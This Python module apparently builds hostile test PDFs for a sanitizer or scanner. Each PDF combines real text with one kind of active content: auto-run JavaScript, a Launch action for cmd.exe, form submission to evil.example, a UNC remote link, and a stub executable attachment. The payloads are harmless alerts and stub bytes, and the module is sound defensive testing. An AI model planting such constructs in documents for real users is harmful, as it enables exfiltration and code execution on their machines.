"""Hostile test PDFs built with pikepdf: a page of real text plus one kind of active content each."""

import io

import pikepdf
from pikepdf import Array, Dictionary, Name, String

TEXT = "Arbeitsunfaehigkeitsbescheinigung Muster"


def _base() -> pikepdf.Pdf:
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica, Encoding=Name.WinAnsiEncoding)
    )
    content = pdf.make_stream(f"BT /F1 18 Tf 72 720 Td ({TEXT}) Tj ET".encode())
    page = Dictionary(
        Type=Name.Page,
        MediaBox=Array([0, 0, 595, 842]),
        Resources=Dictionary(Font=Dictionary(F1=font)),
        Contents=content,
    )
    pdf.pages.append(pikepdf.Page(page))
    return pdf


def _js(pdf, code="app.alert('x')"):
    return pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String(code)))


def _attach(pdf, data: bytes, name="payload.exe"):
    stream = pdf.make_stream(data, Type=Name.EmbeddedFile)
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String(name), UF=String(name), EF=Dictionary(F=stream)))


def _annotation(pdf, **fields):
    annot = pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([10, 10, 100, 100]), **fields))
    page = pdf.pages[0].obj
    page.Annots = Array([*page.get("/Annots", Array()), annot])
    return annot


def _open_action(pdf):
    pdf.Root.OpenAction = _js(pdf)


def _document_aa(pdf):
    pdf.Root.AA = Dictionary(WC=_js(pdf), DP=_js(pdf))


def _page_aa(pdf):
    pdf.pages[0].obj.AA = Dictionary(O=_js(pdf))


def _javascript_names(pdf):
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), _js(pdf)])))


def _launch(pdf):
    _annotation(pdf, Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe")))


def _submit_form(pdf):
    _annotation(pdf, Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")))


def _import_data(pdf):
    _annotation(pdf, Subtype=Name.Link, A=Dictionary(S=Name.ImportData, F=String("data.fdf")))


def _gotor(pdf):
    _annotation(pdf, Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String("\\\\evil\\share\\x.pdf"), D=Array([0])))


def _gotoe(pdf):
    _annotation(pdf, Subtype=Name.Link, A=Dictionary(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("x"))))


def _next_chain(pdf):
    _annotation(pdf, Subtype=Name.Link, A=Dictionary(S=Name.GoTo, D=Array([0]), Next=_js(pdf)))


def _embedded_files(pdf):
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("a"), _attach(pdf, b"MZ\x90\x00")])))


def _file_attachment_annotation(pdf):
    _annotation(pdf, Subtype=Name.FileAttachment, FS=_attach(pdf, b"MZ\x90\x00"))


def _rich_media(pdf):
    _annotation(
        pdf,
        Subtype=Name.RichMedia,
        RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([String("a.swf"), _attach(pdf, b"FWS")]))),
        RichMediaSettings=Dictionary(),
    )


def _xfa(pdf):
    xfa = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert(1)</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=xfa)


def _field_action(pdf):
    field = _annotation(pdf, Subtype=Name.Widget, FT=Name.Tx, T=String("f"), AA=Dictionary(K=_js(pdf)))
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))


def _outline_js(pdf):
    item = pdf.make_indirect(Dictionary(Title=String("x"), A=_js(pdf)))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = pdf.Root.Outlines


HOSTILE = {
    "open_action_javascript": _open_action,
    "document_additional_actions": _document_aa,
    "page_additional_actions": _page_aa,
    "javascript_name_tree": _javascript_names,
    "launch": _launch,
    "submit_form": _submit_form,
    "import_data": _import_data,
    "goto_remote": _gotor,
    "goto_embedded": _gotoe,
    "javascript_in_next_chain": _next_chain,
    "embedded_files": _embedded_files,
    "file_attachment_annotation": _file_attachment_annotation,
    "rich_media": _rich_media,
    "xfa": _xfa,
    "form_field_keystroke_javascript": _field_action,
    "outline_javascript": _outline_js,
}


def pdf_bytes(*kinds: str, extra_attachment: bytes | None = None) -> bytes:
    """A one-page PDF with TEXT and the named kinds of active content (all of them with "all")."""
    pdf = _base()
    for kind in HOSTILE if kinds == ("all",) else kinds:
        HOSTILE[kind](pdf)
    if extra_attachment is not None:
        _file_attachment_annotation_with(pdf, extra_attachment)
    out = io.BytesIO()
    pdf.save(out, compress_streams=False)
    return out.getvalue()


def _file_attachment_annotation_with(pdf, data: bytes):
    _annotation(pdf, Subtype=Name.FileAttachment, FS=_attach(pdf, data, name="readme.txt"))
